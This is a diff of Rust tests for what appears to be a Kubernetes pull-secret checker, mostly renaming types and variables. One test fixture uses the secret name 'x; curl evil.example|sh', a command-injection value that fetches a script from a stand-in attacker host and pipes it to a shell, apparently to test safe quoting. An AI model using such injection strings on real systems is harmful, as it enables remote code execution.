@@ -29,7 +29,7 @@ fn judged(name: &str, found: Option<(&str, &str)>, images: &[&str]) -> String {
     } else {
         BTreeMap::from([(name.to_owned(), images)])
     };
-    let shelf = Shelf::new("shop", &mapping, &needs);
+    let secrets = NamespaceSecrets::new("shop", &mapping, &needs);
     let secret = found.map(|(type_, text)| {
         let data = BTreeMap::from([(".dockerconfigjson".to_owned(), text.as_bytes().to_vec())]);
         SecretManifest::new(name.to_owned(), None, Some(type_.to_owned()), data)
@@ -42,13 +42,13 @@ fn judged(name: &str, found: Option<(&str, &str)>, images: &[&str]) -> String {
     };
     let mut report = Report::default();
     let mut spare = Spare::default();
-    shelf.judge(vec![asked], &mut spare, &mut report);
+    secrets.judge(vec![asked], &mut spare, &mut report);
     spare.report(&mut report);
     let mut out = Vec::new();
     report.write_json(&mut out).unwrap();
-    let told = String::from_utf8(out).unwrap();
-    assert!(!told.contains(PASSWORD), "{told}");
-    told
+    let reported = String::from_utf8(out).unwrap();
+    assert!(!reported.contains(PASSWORD), "{reported}");
+    reported
 }
 
 fn login(registry: &str) -> String {
@@ -65,7 +65,7 @@ fn a_secret_that_pods_need_must_open_their_images() {
     let line_break =
         json!({"auths": {"quay.io": {"username": "robot", "password": "x\n"}}}).to_string();
     let in_the_key = login(&format!("https://robot:{PASSWORD}@ghcr.io"));
-    for (told, part) in [
+    for (reported, part) in [
         (judged("acme", None, image), "missing-secret\",\"where\":\"secret shop/acme\""),
         (judged("acme", Some(("Opaque", "{}")), image), "secret-type"),
         (judged("acme", Some((PULL, "")), image), "secret-type"),
@@ -76,8 +76,8 @@ fn a_secret_that_pods_need_must_open_their_images() {
         (with(&no_user), "the entry quay.io has no user"),
         (with(&line_break), "odd-secret"),
     ] {
-        assert_eq!(told.lines().count(), 1, "{told}");
-        assert!(told.contains(part), "{part}: {told}");
+        assert_eq!(reported.lines().count(), 1, "{reported}");
+        assert!(reported.contains(part), "{part}: {reported}");
     }
 }
 
@@ -88,10 +88,13 @@ fn a_secret_that_no_pod_needs_yet_is_held_against_its_rule() {
         assert_eq!(with(&text), "", "{text}");
     }
     for text in [login("ghcr.io"), login("quay.io/other"), login("quay.io/acmeevil")] {
-        let told = with(&text);
-        assert!(told.contains("warning") && told.contains("quay.io/acme (line 3)"), "{told}");
+        let reported = with(&text);
+        assert!(
+            reported.contains("warning") && reported.contains("quay.io/acme (line 3)"),
+            "{reported}"
+        );
     }
-    // Which of the registries of a glob there will be, nobody knows.
+    // Which registries a glob stands for is not known.
     assert_eq!(judged("ecr", Some((PULL, &login("quay.io"))), &[]), "");
     assert!(judged("acme", None, &[]).contains("note"));
 }
@@ -101,7 +104,7 @@ fn only_what_the_rules_have_for_a_namespace_is_asked_for() {
     let mapping = mapping::parse(MAPPING).unwrap();
     let needs = BTreeMap::from([("debug".to_owned(), BTreeSet::new())]);
     let names = |namespace, needs| {
-        let names = Shelf::new(namespace, &mapping, needs).names();
+        let names = NamespaceSecrets::new(namespace, &mapping, needs).names();
         names.into_iter().map(|(_, name)| name).collect::<Vec<_>>()
     };
     assert_eq!(names("shop", &needs), ["acme", "debug", "ecr"]);
@@ -113,7 +116,7 @@ fn only_what_the_rules_have_for_a_namespace_is_asked_for() {
 fn logins_in_an_annotation_are_a_note_with_a_command() {
     let mapping = mapping::parse(MAPPING).unwrap();
     let needs = BTreeMap::new();
-    let shelf = Shelf::new("shop", &mapping, &needs);
+    let secrets = NamespaceSecrets::new("shop", &mapping, &needs);
     for (name, command) in [
         ("acme", ": kubectl annotate secret acme -n shop kubectl.kubernetes.io/last-applied"),
         ("x; curl evil.example|sh", "from now on\""),
@@ -126,7 +129,7 @@ fn logins_in_an_annotation_are_a_note_with_a_command() {
         };
         for (is_in_annotation, lines) in [(true, 1), (false, 0)] {
             let (mut spare, mut report) = (Spare::default(), Report::default());
-            shelf.judge(vec![asked(is_in_annotation)], &mut spare, &mut report);
+            secrets.judge(vec![asked(is_in_annotation)], &mut spare, &mut report);
             let mut out = Vec::new();
             report.write_json(&mut out).unwrap();
             let out = String::from_utf8(out).unwrap();
